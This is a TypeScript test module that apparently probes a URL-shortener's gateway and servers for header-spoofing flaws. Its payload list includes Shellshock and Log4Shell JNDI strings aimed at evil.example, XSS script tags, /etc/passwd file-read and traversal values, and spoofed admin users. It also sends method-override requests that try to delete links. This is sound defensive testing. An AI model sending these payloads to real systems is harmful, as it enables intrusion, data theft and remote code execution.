import { type Attacked, changeOf, type Listener, makeLink } from '../attacked.js';
import type { Attack, Attacks } from '../tally.js';
import { JSON_TYPE, newAlias } from '../witness.js';

type Header = readonly [name: string, value: string];

/** An address and a request's name that only somebody who lies about himself has. */
const LIAR = '198.51.100.66';
const LIAR_ID = 'liar-liar-liar';

/** What proxies say of the client and of what it asked for. From a client it is nothing but its own word. */
const SAID: readonly (readonly Header[])[] = [
  [['X-Forwarded-Host', 'evil.example']],
  [['X-Forwarded-Host', 'evil.example:1\t']],
  [['X-Forwarded-Host', 'a"><script>alert(1)</script>']],
  [['X-Forwarded-Server', 'evil.example']],
  [['X-Host', 'evil.example']],
  [['X-Original-Host', 'evil.example']],
  [['X-HTTP-Host-Override', 'evil.example']],
  [['Forwarded', `for=${LIAR};host=evil.example;proto=https`]],
  [['Forwarded', 'host="evil.example"']],
  [['X-Forwarded-Proto', 'javascript']],
  [['X-Forwarded-Proto', 'https']],
  [['X-Forwarded-Scheme', 'https']],
  [['X-Forwarded-Ssl', 'on']],
  [['Front-End-Https', 'on']],
  [['X-Forwarded-Port', '1']],
  [['X-Forwarded-Prefix', '/evil']],
  [['X-Forwarded-Prefix', '//evil.example']],
  [['X-Forwarded-Path', '/evil']],
  [['X-Forwarded-For', LIAR]],
  [['X-Forwarded-For', `127.0.0.1, ${LIAR}`]],
  [['X-Forwarded-For', `${LIAR}, 127.0.0.1`]],
  [['X-Forwarded-For', `${LIAR}"\t`]],
  [['X-Forwarded-For', '1'.repeat(4_000)]],
  [['X-Real-IP', LIAR]],
  [['X-Client-IP', LIAR]],
  [['True-Client-IP', LIAR]],
  [['CF-Connecting-IP', LIAR]],
  [['Client-IP', LIAR]],
  [['Via', `1.1 ${LIAR}`]],
  [['X-Request-Id', LIAR_ID]],
  [['X-Correlation-Id', LIAR_ID]],
  [['X-Original-URL', '/api/v1/urls']],
  [['X-Rewrite-URL', '/metrics']],
  [['X-Original-URI', '/metrics']],
  [['X-Accel-Redirect', '/-/gateway/503']],
  [['X-Sendfile', '/etc/passwd']],
  [['X-Forwarded-User', 'admin']],
  [['X-Remote-User', 'admin']],
  [['Remote-User', 'admin']],
  [['Connection', 'Host']],
  [['Connection', 'X-Forwarded-For, Cookie']],
  [['Referer', 'http://evil.example/']],
  [['User-Agent', '() { :; }; /bin/true']],
  [['User-Agent', '%24{jndi:ldap://evil.example/x}']],
  [['Accept', '<script>alert(1)</script>, text/html']],
  [['Accept-Language', '../../etc/passwd']],
  [['Cookie', 'ryow_until=<script>; __Host-ryow_until=1; session=admin']],
  [['Range', 'bytes=0-0']],
  [['If-None-Match', '*']],
  [['If-Modified-Since', 'Fri, 31 Dec 9999 23:59:59 GMT']],
];

/** What makes some frameworks take one method for another. */
const OVERRIDES: readonly (readonly [what: string, headers: readonly Header[], query: string, body?: string])[] = [
  ...['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override', 'X-Original-Method', 'Method'].map(
    (name) => [name, [[name, 'DELETE']], ''] as const,
  ),
  ['a field of the query', [], '?_method=DELETE'],
  ['a field of the query', [], '?method=DELETE&_method=delete'],
  ['a field of a form', [['Content-Type', 'application/x-www-form-urlencoded']], '', '_method=DELETE'],
  ['a field of JSON', [JSON_TYPE], '', '{"_method":"DELETE"}'],
  [
    'X-HTTP-Method-Override',
    [['X-HTTP-Method-Override', 'PATCH'], JSON_TYPE],
    '',
    '{"long_url":"https://evil.example/"}',
  ],
];

/** Headers by which a client lies about itself, or about what it asks for; and whether a later client meets the lie in a cache. */
export async function spoofedHeaders(attacked: Attacked): Promise<Attacks> {
  const { open, redirect, shorten, witness } = attacked;
  const attacks: Attack[] = [];
  const later: Attack[] = [];
  for (const at of open) {
    const keeper = at.makes ? at : shorten;
    const kept = await makeLink(attacked, keeper);
    const { code, longUrl } = kept;
    for (const headers of SAID) {
      const what = `${headers.map((each) => each.join(': ').slice(0, 60))} at ${at.name}`;
      if (at.makes) attacks.push({ what: `${what}, with a create`, run: () => keepsItsName(attacked, at, headers) });
      if (at.follows)
        attacks.push({ what: `${what}, with a click`, run: () => leadsAsBefore(attacked, at, code, longUrl, headers) });
      if (at !== redirect)
        attacks.push({ what: `${what}, with the page`, run: () => saysNothing(attacked, at, headers) });
    }
    for (const [what, headers, query, body] of OVERRIDES) {
      for (const method of ['GET', 'POST', 'OPTIONS']) {
        attacks.push({
          what: `${method} as another by ${what} at ${at.name}`,
          async run() {
            const path = `/api/v1/urls/${code}${query}`;
            const { answers } = await witness.ask({
              port: at.port,
              method,
              path,
              headers,
              ...(body === undefined ? {} : { body }),
            });
            return answers[0]?.status === 204 && method !== 'OPTIONS' ? 'deleted' : undefined;
          },
        });
      }
    }
    later.push({ what: `what was changed at ${at.name}`, run: () => changeOf(attacked, keeper, kept) });
  }
  later.push({
    what: 'to be known by another address or name',
    // The servers behind believe the gateway, which is of this machine.
    run: async () =>
      attacked.logs().includes(LIAR_ID) || attacked.logs().includes(LIAR) ? 'the log has it' : undefined,
  });
  return { attacks, later };
}

async function keepsItsName({ witness, gateway, standalone }: Attacked, at: Listener, headers: readonly Header[]) {
  const alias = newAlias();
  const body = JSON.stringify({ long_url: 'https://example.com/', alias });
  const { answers } = await witness.ask({
    port: at.port,
    method: 'POST',
    path: '/api/v1/urls',
    headers: [JSON_TYPE, ...headers],
    body,
  });
  const [answer] = answers;
  if (answer?.status !== 201) return answer !== undefined && answer.status < 500 ? undefined : 'no answer';
  const known = at === standalone ? standalone : gateway;
  const { short_url: shortUrl } = JSON.parse(answer.body) as { short_url: string };
  if (shortUrl !== `http://127.0.0.1:${known.port}/${alias}`) return `a link called ${shortUrl}`;
  return /evil/.test(answer.head + answer.body) ? `${answer.head}${answer.body}` : undefined;
}

async function leadsAsBefore(
  { witness }: Attacked,
  { port }: Listener,
  code: string,
  target: string,
  headers: readonly Header[],
): Promise<string | undefined> {
  for (const asked of [headers, []]) {
    const [answer] = (await witness.ask({ port, path: `/${code}`, headers: asked })).answers;
    if (answer?.headers.get('location') !== target) return `${answer?.status} ${answer?.head}`;
    if (/\b(?:public|s-maxage)\b/.test(answer.headers.get('cache-control') ?? ''))
      return 'an answer that others’ caches keep';
  }
  return undefined;
}

async function saysNothing(
  { witness }: Attacked,
  { port }: Listener,
  headers: readonly Header[],
): Promise<string | undefined> {
  for (const path of ['/', '/-/page.css', '/nobody-has-it', '/api/v1/urls/nobody-has-it']) {
    const [answer] = (await witness.ask({ port, path, headers })).answers;
    if (answer === undefined) return 'no answer';
    if (/evil|script>|198\.51|liar/.test(`${answer.head}${answer.body.replaceAll('</script>', '')}`))
      return `${path}: ${answer.head}\n${answer.body}`;
  }
  return undefined;
}
